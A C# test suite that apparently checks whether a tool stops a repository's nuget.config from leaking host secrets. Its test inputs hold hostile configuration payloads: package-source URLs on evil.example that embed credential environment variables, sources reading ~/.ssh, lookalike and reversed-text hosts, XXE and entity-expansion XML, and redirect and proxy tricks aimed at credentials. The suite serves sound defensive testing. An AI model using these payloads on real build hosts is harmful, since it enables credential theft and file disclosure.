using System.Net;
using Machine.Tool.Machinefiles;
using Machine.Tool.Machinefiles.Sources;
using Machine.Tool.Tests.Packages;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Http;

namespace Machine.Attacks.Tests.Repository;

/// <summary>A repository's nuget.config wants the host to talk to its server, with the host's secrets (C1, P1 to P1e, P25).</summary>
public sealed class SourceAttacks
{
    private const string Variable = "MACHINE_ATTACK_SECRET";
    private const string Secret = "hunter2-secret";
    private const string Public = "https://feed.example/v3/index.json";

    public SourceAttacks() => Environment.SetEnvironmentVariable(Variable, Secret);

    [Fact]
    public void A_nuget_config_with_a_source_of_its_own_is_in_the_plan()
    {
        using var project = new HostileProject();
        project.Write(HostileProject.Config("<clear/>" + HostileProject.Source("x", "https://evil.example/%AWS_SECRET_ACCESS_KEY%/index.json")));

        var plan = project.Plan();

        plan.WidensBoundary.ShouldBeTrue();
        plan.Widening.ShouldHaveSingleItem().Text.ShouldBe(
            "nuget.config: packages come from https://evil.example/%AWS_SECRET_ACCESS_KEY%/index.json (as written: no variable of this host is put in); the guest can send it any name");
        new ApprovalStore(project["approvals"]).IsApproved(project.Root, plan).ShouldBeFalse();
    }

    // Each is one attempt to have something used that nobody said yes to.
    [Theory]
    [InlineData("<packageSources><add key=\"x\" value=\"https://evil.example/\"/></packageSources>", "packages come from https://evil.example/; the guest can send it any name")]
    [InlineData("<packageSources><add key=\"public\" value=\"https://evil.example/\"/></packageSources>", "packages come from https://evil.example/; the guest can send it any name")]
    [InlineData("<packageSources><add key=\"x\" value=\"http://evil.example/\"/></packageSources>", "packages come from http://evil.example/, unprotected; the guest can send it any name")]
    [InlineData("<packageSources><add key=\"x\" value=\"https://feed.example.evil.example/v3/index.json\"/></packageSources>", "packages come from https://feed.example.evil.example/v3/index.json; the guest can send it any name")]
    [InlineData("<packageSources><add key=\"x\" value=\"https://feed.example@evil.example/v3/index.json\"/></packageSources>", "packages come from https://feed.example@evil.example/v3/index.json; the guest can send it any name")]
    [InlineData("<packageSources><add key=\"x\" value=\"https://feed.example:444/v3/index.json\"/></packageSources>", "packages come from https://feed.example:444/v3/index.json; the guest can send it any name")]
    [InlineData("<packageSources><add key=\"x\" value=\"https://feed.example/V3/index.json\"/></packageSources>", "packages come from https://feed.example/V3/index.json; the guest can send it any name")]
    [InlineData("<packageSources><add key=\"x\" value=\"https://feed.example/v3/../evil/index.json\"/></packageSources>", "packages come from https://feed.example/v3/../evil/index.json; the guest can send it any name")]
    [InlineData("<packageSources><add key=\"x\" value=\"https://feed.example/v3/index.json?to=evil\"/></packageSources>", "packages come from https://feed.example/v3/index.json?to=evil; the guest can send it any name")]
    [InlineData("<packageSources><add key=\"x\" value=\"http://feed.example/v3/index.json\"/></packageSources>", "packages come from http://feed.example/v3/index.json, unprotected; the guest can send it any name")]
    [InlineData("<packageSources><add key=\"x\" value=\"https://fe\u0435d.example/v3/index.json\"/></packageSources>", "packages come from https://fe\u0435d.example/v3/index.json; the guest can send it any name")]
    [InlineData("<packageSources><add key=\"x\" value=\"https://evil.example/&#x202e;nosj.xedni\"/></packageSources>", "packages come from https://evil.example/\\u{202e}nosj.xedni; the guest can send it any name")]
    [InlineData("<packageSources><add key=\"x\" value=\"/home/somebody/.ssh\"/></packageSources>", "reads the folder /home/somebody/.ssh of this host")]
    [InlineData("<packageSources><add key=\"x\" value=\"file:///home/somebody/.ssh\"/></packageSources>", "reads the folder file:///home/somebody/.ssh (/home/somebody/.ssh) of this host")]
    [InlineData("<packageSources><add key=\"x\" value=\"ftp://evil.example/\"/></packageSources>", "reads the folder ftp://evil.example/")]
    [InlineData("<auditSources><add key=\"x\" value=\"https://evil.example/\"/></auditSources>", "packages come from https://evil.example/; the guest can send it any name")]
    [InlineData("<packageSources><add key=\"x\" value=\"https://feed.example/v3/index.json\" disableTLSCertificateValidation=\"true\"/></packageSources>", "switches certificate checks off for https://feed.example/v3/index.json")]
    [InlineData("<packageSources><add key=\"x\" value=\"https://feed.example/v3/index.json\" disableTLSCertificateValidation=\" TRUE \"/></packageSources>", "switches certificate checks off for https://feed.example/v3/index.json")]
    [InlineData("<packageSources><add key=\"x\" value=\"http://plain.example/v3/index.json\" allowInsecureConnections=\"true\"/></packageSources>", "allows plain http to http://plain.example/v3/index.json")]
    [InlineData("<packageSources><add key=\"x\" value=\"https://feed.example/v3/index.json\"/></packageSources><packageSourceCredentials><x><add key=\"Username\" value=\"me\"/><add key=\"ClearTextPassword\" value=\"mine\"/></x></packageSourceCredentials>", "brings a password for https://feed.example/v3/index.json (user me)")]
    [InlineData("<packageSourceCredentials><public><add key=\"Username\" value=\"me\"/><add key=\"ClearTextPassword\" value=\"mine\"/></public></packageSourceCredentials>", "brings a password for https://feed.example/v3/index.json (user me)")]
    [InlineData("<trustedSigners><author name=\"evil\"><certificate fingerprint=\"AB12\" hashAlgorithm=\"SHA256\" allowUntrustedRoot=\"true\"/></author></trustedSigners>", "trusts the author evil to sign packages: AB12")]
    [InlineData("<trustedSigners><clear/></trustedSigners>", "forgets the signers that your own configuration trusts")]
    [InlineData("<config><add key=\"signatureValidationMode\" value=\"accept\"/></config>", "accepts packages that no trusted signer signed")]
    [InlineData("<config><add key=\"SIGNATUREVALIDATIONMODE\" value=\"nonsense\"/></config>", "accepts packages that no trusted signer signed")]
    [InlineData("<disabledPackageSources><clear/></disabledPackageSources><packageSources><add key=\"other\" value=\"https://off.example/\"/></packageSources>", "packages come from https://off.example/; the guest can send it any name")]
    public void What_the_users_own_configuration_does_not_say_is_asked(string config, string words)
    {
        using var project = new HostileProject($"""
            <configuration>
              <packageSources><clear/><add key="public" value="{Public}"/><add key="plain" value="http://plain.example/v3/index.json"/><add key="off" value="https://off.example/"/></packageSources>
              <disabledPackageSources><add key="off" value="true"/></disabledPackageSources>
              <config><add key="signatureValidationMode" value="require"/></config>
            </configuration>
            """);

        project.Write($"<configuration>{config}</configuration>").Asked().ShouldContain(ask => ask.StartsWith("nuget.config: " + words, StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("a server of its own")]
    [InlineData("the name of the user's source")]
    public async Task The_users_credential_provider_is_not_asked_about_an_address_that_is_not_the_users(string trick)
    {
        await using var own = await FlatServer.StartAsync("thing", "1.0.0", []);
        await using var evil = await FlatServer.StartAsync("thing", "1.0.0", []);
        evil.Authorization = "Basic " + Convert.ToBase64String("me:provider-canary"u8);
        CredentialPlugin.Knows(evil.Address, "me", "provider-canary");
        var name = trick == "a server of its own" ? "evil" : "mine";
        await using var feed = await FeedUnderTest.StartAsync(
            [("mine", new Uri(own.Address, "index.json").ToString())],
            project: $"""<configuration><packageSources><clear/><add key="{name}" value="{new Uri(evil.Address, "index.json")}" allowInsecureConnections="true"/></packageSources></configuration>""");

        using var answer = await feed.GetAsync("flat/thing/index.json");

        answer.StatusCode.ShouldNotBe(HttpStatusCode.OK);
        evil.Refused.ShouldBeGreaterThan(0, "else it was never asked, and this test says nothing");
        CredentialPlugin.AskedAbout(evil.Address).ShouldBeEmpty();
        evil.Paths.ShouldBeEmpty("a request with the canary would have been let in");
    }

    // The other side: no question where nothing is new, or people learn to say yes.
    [Theory]
    [InlineData("<packageSources><clear/><add key=\"public\" value=\"https://feed.example/v3/index.json\"/></packageSources>")]
    [InlineData("<packageSources><clear/><add key=\"another name\" value=\"HTTPS://FEED.example:443/v3/index.json/\" protocolVersion=\"3\"/></packageSources>")]
    [InlineData("<packageSources><add key=\"p\" value=\"https://feed.example/v3/index.json\" disableTLSCertificateValidation=\"false\"/></packageSources>")]
    [InlineData("<packageSources/><disabledPackageSources><add key=\"public\" value=\"true\"/></disabledPackageSources>")]
    [InlineData("<packageSources><add key=\"x\" value=\"https://evil.example/\"/></packageSources><disabledPackageSources><add key=\"x\" value=\"true\"/></disabledPackageSources>")]
    [InlineData("<packageSourceMapping><packageSource key=\"public\"><package pattern=\"*\"/></packageSource></packageSourceMapping>")]
    [InlineData("<config><add key=\"signatureValidationMode\" value=\"require\"/><add key=\"globalPackagesFolder\" value=\"packages\"/></config>")]
    [InlineData("<fallbackPackageFolders><add key=\"f\" value=\"/etc\"/></fallbackPackageFolders><packageRestore><add key=\"enabled\" value=\"True\"/></packageRestore>")]
    [InlineData("<packageSources><add key=\"local\" value=\"https://corp.example/feed\" allowInsecureConnections=\"true\"/></packageSources>")]
    public void A_file_that_names_only_what_the_user_has_asks_nothing(string config)
    {
        using var project = new HostileProject(HostileProject.Config(HostileProject.Source("public", Public) + HostileProject.Source("corp", "https://corp.example/feed")));

        project.Write($"<configuration>{config}</configuration>").Asked().ShouldBeEmpty();
    }

    [Theory]
    [InlineData("<!DOCTYPE configuration [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><configuration><packageSources><add key=\"x\" value=\"https://evil.example/&x;\"/></packageSources></configuration>")]
    [InlineData("<!DOCTYPE c [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]><configuration>&b;</configuration>")]
    [InlineData("<configuration><packageSources>")]
    [InlineData("<configuration/><configuration/>")]
    [InlineData("<evil/>")]
    [InlineData("")]
    [InlineData("not xml")]
    public void A_file_that_is_no_plain_configuration_is_refused(string config)
    {
        using var project = new HostileProject();
        project.Write(config);

        Should.Throw<Machine.Tool.Hosting.MachineException>(project.Plan).Message.ShouldContain("nuget.config");
    }

    [Fact]
    public void A_file_without_end_and_one_without_bottom_are_refused()
    {
        using var project = new HostileProject();
        project.Write("<configuration>" + new string(' ', 2 << 20) + "</configuration>");
        Should.Throw<Machine.Tool.Hosting.MachineException>(project.Plan).Message.ShouldContain("larger");
        project.Write("<configuration>" + string.Concat(Enumerable.Repeat("<a>", 5000)) + string.Concat(Enumerable.Repeat("</a>", 5000)) + "</configuration>");
        Should.Throw<Machine.Tool.Hosting.MachineException>(project.Plan);
    }

    [Fact]
    public void A_link_to_a_device_or_to_a_file_elsewhere_is_not_read()
    {
        Assert.SkipWhen(OperatingSystem.IsWindows(), "links and devices of Unix");
        foreach (var target in new[] { "/dev/zero", "/dev/stdin", "/etc/hostname" })
        {
            using var project = new HostileProject();
            File.CreateSymbolicLink(Path.Combine(project.Path, "nuget.config"), target);
            Should.Throw<Machine.Tool.Hosting.MachineException>(project.Plan).Message.ShouldContain("is a link that leaves its folder");
        }
    }

    [Theory]
    [InlineData("nuget.config")]
    [InlineData("NuGet.config")]
    [InlineData("NuGet.Config")]
    public void Each_of_the_names_that_NuGet_takes_is_looked_at(string name)
    {
        using var project = new HostileProject();
        project.Write(HostileProject.Config(HostileProject.Source("x", "https://evil.example/")), name).Asked().ShouldHaveSingleItem();
    }

    [Fact]
    public void A_file_of_a_folder_above_is_no_word_of_the_users()
    {
        using var project = new HostileProject();
        File.WriteAllText(Path.Combine(project.Above, "nuget.config"), HostileProject.Config(HostileProject.Source("x", "https://evil.example/")));

        project.Asked().ShouldBe(["../nuget.config: packages come from https://evil.example/; the guest can send it any name"]);
    }

    [Fact]
    public void A_yes_is_bound_to_every_byte_of_the_file()
    {
        using var project = new HostileProject();
        var approvals = new ApprovalStore(project["approvals"]);
        project.Write(HostileProject.Config(HostileProject.Source("x", "https://one.example/")));
        approvals.Approve(project.Root, project.Plan());
        approvals.IsApproved(project.Root, project.Plan()).ShouldBeTrue();

        project.Write(HostileProject.Config(HostileProject.Source("x", "https://one.example/") + HostileProject.Source("y", "https://two.example/")));
        approvals.IsApproved(project.Root, project.Plan()).ShouldBeFalse();

        // Same words, other bytes; and the same bytes in another folder.
        project.Write(HostileProject.Config(HostileProject.Source("x", "https://one.example/") + "<!-- -->"));
        approvals.IsApproved(project.Root, project.Plan()).ShouldBeFalse();
        File.Delete(Path.Combine(project.Path, "nuget.config"));
        File.WriteAllText(Path.Combine(project.Above, "nuget.config"), HostileProject.Config(HostileProject.Source("x", "https://one.example/")));
        approvals.IsApproved(project.Root, project.Plan()).ShouldBeFalse();
    }

    [Fact]
    public async Task A_variable_of_the_host_does_not_go_to_the_attackers_server()
    {
        await using var attacker = await Listener.StartAsync();
        using var project = new HostileProject();
        project.Write(HostileProject.Config(HostileProject.Source("x", $"{attacker.Address}%{Variable}%/index.json", "allowInsecureConnections=\"true\"")));
        await using var feed = await FeedOver.StartAsync(project, project.Sources);

        await feed.GetAsync("flat/any/index.json");
        await feed.FetchAsync(("any", "1.0.0"));

        attacker.Connections.ShouldNotContain(path => path.Contains(Secret, StringComparison.Ordinal));
        attacker.Secrets.ShouldBeEmpty();
    }

    [Theory]
    [InlineData("Username", "x", "ClearTextPassword", "%MACHINE_ATTACK_SECRET%")]
    [InlineData("Username", "%MACHINE_ATTACK_SECRET%", "ClearTextPassword", "x")]
    [InlineData("username", "x", "cleartextpassword", "a%MACHINE_ATTACK_SECRET%b")]
    [InlineData("Username", "x", "Password", "%MACHINE_ATTACK_SECRET%")]
    public async Task A_variable_of_the_host_is_no_password_for_the_attackers_server(string userKey, string user, string passwordKey, string password)
    {
        await using var attacker = await Listener.StartAsync();
        using var project = new HostileProject();
        project.Write(HostileProject.Config(
            HostileProject.Source("evil", attacker.Index, "allowInsecureConnections=\"true\""),
            $"<packageSourceCredentials><evil><add key=\"{userKey}\" value=\"{user}\"/><add key=\"{passwordKey}\" value=\"{password}\"/></evil></packageSourceCredentials>"));
        await using var feed = await FeedOver.StartAsync(project, project.Sources);

        await feed.GetAsync("flat/a/index.json");

        attacker.Secrets.Select(Decoded).ShouldNotContain(said => said.Contains(Secret, StringComparison.Ordinal));
        project.Sources.Unused.ShouldContain(line => line.Contains("no variable of this host", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("folder")]
    [InlineData("audit")]
    [InlineData("signer")]
    [InlineData("mode")]
    [InlineData("mapping")]
    public async Task No_other_value_of_a_projects_file_is_expanded(string where)
    {
        using var project = new HostileProject();
        using var loot = new TestFolder();
        PackageFolder.Add(loot.Path, "Loot", "1.0.0");
        Environment.SetEnvironmentVariable("MACHINE_ATTACK_FOLDER", loot.Path);
        Environment.SetEnvironmentVariable("MACHINE_ATTACK_WORD", "require");
        project.Write(where switch
        {
            "folder" => HostileProject.Config(HostileProject.Source("x", "%MACHINE_ATTACK_FOLDER%")),
            "audit" => HostileProject.Config(HostileProject.Source("x", loot.Path), "<auditSources><add key=\"a\" value=\"%MACHINE_ATTACK_FOLDER%\"/></auditSources>"),
            "signer" => HostileProject.Config(HostileProject.Source("x", loot.Path), "<trustedSigners><author name=\"%MACHINE_ATTACK_WORD%\"><certificate fingerprint=\"%MACHINE_ATTACK_WORD%\" hashAlgorithm=\"SHA256\" allowUntrustedRoot=\"true\"/></author></trustedSigners>"),
            "mode" => HostileProject.Config(HostileProject.Source("x", loot.Path), "<config><add key=\"signatureValidationMode\" value=\"%MACHINE_ATTACK_WORD%\"/></config>"),
            _ => HostileProject.Config(HostileProject.Source("require", loot.Path), "<packageSourceMapping><packageSource key=\"%MACHINE_ATTACK_WORD%\"><package pattern=\"*\"/></packageSource></packageSourceMapping>"),
        });
        await using var feed = await FeedOver.StartAsync(project, project.Sources);

        var answer = await feed.GetAsync("flat/loot/index.json");

        if (where == "audit")
        {
            answer.StatusCode.ShouldBe(HttpStatusCode.OK);
            feed.Log.Text.ShouldNotContain(loot.Path);
        }
        else
        {
            answer.StatusCode.ShouldNotBe(HttpStatusCode.OK);
        }
    }

    [Fact]
    public async Task A_password_does_not_follow_the_name_of_a_source()
    {
        await using var attacker = await Listener.StartAsync();
        using var project = new HostileProject(HostileProject.Config(
            HostileProject.Source("corp", "https://corp.example/v3/index.json"),
            "<packageSourceCredentials><corp><add key=\"Username\" value=\"u\"/><add key=\"ClearTextPassword\" value=\"corp-token\"/></corp></packageSourceCredentials>"));
        project.Write(HostileProject.Config("<clear/>" + HostileProject.Source("corp", attacker.Index, "allowInsecureConnections=\"true\"")));
        await using var feed = await FeedOver.StartAsync(project, project.Sources);

        await feed.GetAsync("flat/a/index.json");

        attacker.Connections.ShouldNotBeEmpty();
        attacker.Secrets.ShouldBeEmpty();
    }

    [Fact]
    public async Task A_password_in_a_variable_does_not_follow_the_name_of_a_source()
    {
        await using var attacker = await Listener.StartAsync();
        using var project = new HostileProject(HostileProject.Config(HostileProject.Source("attacked-corp", "https://corp.example/v3/index.json")));
        project.Write(HostileProject.Config(HostileProject.Source("attacked-corp", attacker.Index, "allowInsecureConnections=\"true\"")));
        Environment.SetEnvironmentVariable("NuGetPackageSourceCredentials_attacked-corp", "Username=u;Password=corp-token");
        try
        {
            await using var feed = await FeedOver.StartAsync(project, project.Sources);
            await feed.GetAsync("flat/a/index.json");
        }
        finally
        {
            Environment.SetEnvironmentVariable("NuGetPackageSourceCredentials_attacked-corp", null);
        }

        attacker.Connections.ShouldNotBeEmpty();
        attacker.Secrets.ShouldBeEmpty();
    }

    [Fact]
    public async Task The_users_password_goes_to_the_users_address_under_any_name()
    {
        await using var corp = await Listener.StartAsync();
        using var project = new HostileProject(HostileProject.Config(
            HostileProject.Source("corp", corp.Index, "allowInsecureConnections=\"true\""),
            "<packageSourceCredentials><corp><add key=\"Username\" value=\"u\"/><add key=\"ClearTextPassword\" value=\"corp-token\"/></corp></packageSourceCredentials>"));
        project.Write(HostileProject.Config("<clear/>" + HostileProject.Source("renamed", corp.Index, "allowInsecureConnections=\"true\"")));
        project.Asked().ShouldBeEmpty();
        await using var feed = await FeedOver.StartAsync(project, project.Sources);

        await feed.GetAsync("flat/a/index.json");

        corp.Secrets.ShouldContain(Listener.Basic("u", "corp-token"));
    }

    [Theory]
    [InlineData("redirect")]
    [InlineData("index")]
    public async Task A_password_is_not_sent_on_to_another_server(string way)
    {
        await using var attacker = await Listener.StartAsync();
        var password = Listener.Basic("u", "corp-token");
        await using var corp = await TestServer.StartAsync(app => app.Map("/{**path}", (HttpContext context) =>
        {
            if (context.Request.Path.Value == "/v3/index.json" && way == "index")
            {
                return context.Response.WriteAsync($$"""{"version":"3.0.0","resources":[{"@id":"{{attacker.Address}}flat/","@type":"PackageBaseAddress/3.0.0"}]}""");
            }

            context.Response.Redirect(attacker.Index.ToString());
            return Task.CompletedTask;
        }));
        corp.Authorization = password;
        using var project = new HostileProject(HostileProject.Config(
            HostileProject.Source("corp", new Uri(corp.Address, "v3/index.json"), "allowInsecureConnections=\"true\""),
            "<packageSourceCredentials><corp><add key=\"Username\" value=\"u\"/><add key=\"ClearTextPassword\" value=\"corp-token\"/></corp></packageSourceCredentials>"));
        await using var feed = await FeedOver.StartAsync(project, null);

        await feed.GetAsync("flat/a/index.json");

        corp.Paths.ShouldNotBeEmpty("it signed in at the source itself");
        attacker.Connections.ShouldNotBeEmpty("and followed");
        attacker.Secrets.ShouldBeEmpty();
    }

    [Fact]
    public async Task Nothing_that_nobody_approved_is_asked_neither_by_a_lock_file_nor_by_the_guest()
    {
        await using var attacker = await Listener.StartAsync();
        using var project = new HostileProject();
        project.Write(HostileProject.Config(HostileProject.Source("x", attacker.Index, "allowInsecureConnections=\"true\"")));

        // The supervisor never gets as far with an unapproved plan; a feed that only has what was approved (nothing) asks nobody.
        await using var feed = await FeedOver.StartAsync(project, ProjectSources.None);
        await feed.FetchAsync(("any", "1.0.0"));
        await feed.GetAsync("flat/" + new string('a', 90) + "/index.json");
        await feed.GetAsync("search?q=loot");

        attacker.Connections.ShouldBeEmpty();
    }

    [Fact]
    public async Task A_file_that_changed_after_the_yes_is_not_used_and_the_guest_is_told()
    {
        await using var good = await FlatServer.StartAsync("good", "1.0.0", []);
        await using var attacker = await Listener.StartAsync();
        using var project = new HostileProject();
        project.Write(HostileProject.Config(HostileProject.Source("good", new Uri(good.Address, "index.json"), "allowInsecureConnections=\"true\"")));
        await using var feed = await FeedOver.StartAsync(project, project.Sources);
        (await feed.GetAsync("flat/good/index.json")).StatusCode.ShouldBe(HttpStatusCode.OK);

        project.Write(HostileProject.Config("<clear/>" + HostileProject.Source("good", attacker.Index, "allowInsecureConnections=\"true\"")));
        HttpResponseMessage answer = null!;
        await Poll.UntilAsync(async () => (answer = await feed.GetAsync("flat/missing/index.json")).ReasonPhrase!.Contains("nuget.config has changed", StringComparison.Ordinal));

        attacker.Connections.ShouldBeEmpty();
        answer.ReasonPhrase!.ShouldContain("run the command again");
        feed.Log.Text.ShouldContain("what was approved stays in use");
        (await feed.GetAsync("flat/good/index.json")).StatusCode.ShouldBe(HttpStatusCode.OK, "what was approved goes on");

        // Only what a later command brings, approved, is used.
        feed.Use(project.Sources);
        await feed.GetAsync("flat/good2/index.json");
        attacker.Connections.ShouldNotBeEmpty();
    }

    [Fact]
    public async Task A_file_put_there_after_the_yes_is_not_used()
    {
        await using var attacker = await Listener.StartAsync();
        using var project = new HostileProject();
        await using var feed = await FeedOver.StartAsync(project, project.Sources);
        project.Write(HostileProject.Config(HostileProject.Source("x", attacker.Index, "allowInsecureConnections=\"true\"")));

        await Poll.UntilAsync(async () => (await feed.GetAsync("flat/a/index.json")).ReasonPhrase!.Contains("nuget.config has changed", StringComparison.Ordinal));

        attacker.Connections.ShouldBeEmpty();
    }

    [Fact]
    public async Task What_was_harmless_beside_the_users_configuration_is_asked_when_that_no_longer_says_it()
    {
        await using var former = await Listener.StartAsync();
        using var project = new HostileProject(HostileProject.Config(HostileProject.Source("former", former.Index, "allowInsecureConnections=\"true\"")));
        project.Write(HostileProject.Config(HostileProject.Source("x", former.Index, "allowInsecureConnections=\"true\"")));
        var harmless = project.Sources;
        harmless.Asks.ShouldBeEmpty();
        project.UserConfig = "<configuration />";
        await using var feed = await FeedOver.StartAsync(project, harmless);

        var answer = await feed.GetAsync("flat/a/index.json");

        answer.StatusCode.ShouldBe(HttpStatusCode.Forbidden);
        former.Connections.ShouldBeEmpty();
    }

    [Fact]
    public async Task A_proxy_of_the_projects_file_carries_nothing()
    {
        await using var proxy = await Listener.StartAsync();
        using var project = new HostileProject();
        project.Write(HostileProject.Config(
            HostileProject.Source("x", "http://feed.invalid/index.json", "allowInsecureConnections=\"true\""),
            $"<config><add key=\"http_proxy\" value=\"{proxy.Address}\"/><add key=\"http_proxy.user\" value=\"u\"/></config>"));
        await using var feed = await FeedOver.StartAsync(project, project.Sources);

        await feed.GetAsync("flat/a/index.json");

        proxy.Connections.ShouldBeEmpty();
        project.Sources.Unused.ShouldContain(line => line.Contains("the proxy setting http_proxy is not used", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("<fallbackPackageFolders><add key=\"f\" value=\"{0}\"/></fallbackPackageFolders>")]
    [InlineData("<config><add key=\"globalPackagesFolder\" value=\"{0}\"/></config>")]
    [InlineData("<config><add key=\"repositoryPath\" value=\"{0}\"/></config>")]
    public async Task Folders_that_are_no_sources_are_not_read(string config)
    {
        using var loot = new TestFolder();
        PackageFolder.Add(loot.Path, "Loot", "1.0.0");
        using var project = new HostileProject(HostileProject.Config(HostileProject.Source("empty", loot.Folder("empty"))));
        project.Write(HostileProject.Config("", string.Format(config, loot.Path)));
        await using var feed = await FeedOver.StartAsync(project, project.Sources);

        (await feed.GetAsync("flat/loot/index.json")).StatusCode.ShouldBe(HttpStatusCode.NotFound);
    }

    private static string Decoded(string basic) => System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(basic["Basic ".Length..]));
}
